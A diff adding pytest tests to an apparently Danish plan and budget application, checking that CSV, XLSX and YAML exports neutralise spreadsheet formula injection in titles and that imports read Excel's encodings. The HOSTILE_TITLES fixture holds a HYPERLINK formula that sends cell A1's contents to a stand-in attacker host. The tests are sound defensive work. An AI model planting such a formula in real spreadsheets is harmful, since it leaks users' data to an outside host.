@@ -273,3 +273,55 @@ def test_text_that_looks_like_a_formula_stays_text_in_xlsx(org, tmp_path):
     exported = export_plan(Plan.objects.get(), "xlsx")
     rows, errors = parse_plan_file(exported, "plan.xlsx")
     assert errors == [] and rows[0].data["title"] == "=1+1 ikke en formel"
+
+
+HOSTILE_TITLES = [
+    '=HYPERLINK("http://angriber.example/?d="&A1;"Klik her")',
+    "+45 12 34 56 78",
+    "-1 borger fra venteliste",
+    "@SUM(A1:A9)",
+    "'=ikke en formel",
+    "'citat'",
+    'Jeg vil "komme ud", sagde hun',
+]
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx", "yaml"])
+def test_hostile_titles_are_neutralised_in_the_export_and_read_back_exactly(org, fmt):
+    plan = Plan.objects.create(code="p", name="=Plan")
+    theme = Theme.objects.create(plan=plan, number=1, name="@Tema")
+    track = Track.objects.create(theme=theme, number="1.1", name="-Spor")
+    for i, title in enumerate(HOSTILE_TITLES):
+        Initiative.objects.create(track=track, key=f"i{i}", title=title, amount=1000, owner_unit=org.centre_a)
+    BudgetLine.objects.create(initiative=Initiative.objects.get(key="i0"), year=2025, amount=-500)
+    exported = export_plan(plan, fmt)
+    if fmt == "csv":
+        text = exported.decode("utf-8-sig")
+        cells = [cell for line in text.splitlines()[1:] for cell in line.split(";")]
+        assert not [c for c in cells if c.startswith(("=", "+", "@")) or c.startswith("-") and c != "-500"]
+        assert ";-500" in text  # a negative amount is a number, not escaped text
+    if fmt == "xlsx":
+        sheet = openpyxl.load_workbook(io.BytesIO(exported)).active
+        assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
+        budget = [c.value for c in sheet[1]].index("budget_2025")
+        cell = sheet.cell(row=2, column=budget + 1)
+        assert (cell.value, cell.data_type) == (-500, "n")
+    rows, errors = parse_plan_file(exported, f"plan.{fmt}")
+    assert errors == []
+    assert [r.data["title"] for r in rows] == HOSTILE_TITLES
+    assert (rows[0].data["plan_name"], rows[0].data["theme_name"], rows[0].data["track_name"]) == (
+        "=Plan",
+        "@Tema",
+        "-Spor",
+    )
+    assert import_plan_file(exported, f"plan.{fmt}").unchanged == len(HOSTILE_TITLES)
+
+
+@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "cp1252", "latin-1", "utf-16"])
+def test_the_plan_import_reads_the_encodings_excel_writes(org, tmp_path, encoding):
+    title = "Bæredygtig økonomi, år 2" if encoding == "latin-1" else "“Bæredygtig” økonomi – år 2"
+    path = tmp_path / "plan.csv"
+    path.write_text("\n".join([HEADER, row(title=title)]) + "\n", encoding=encoding)
+    result = import_plan_file(path)
+    assert result.errors == []
+    assert Initiative.objects.get().title == title
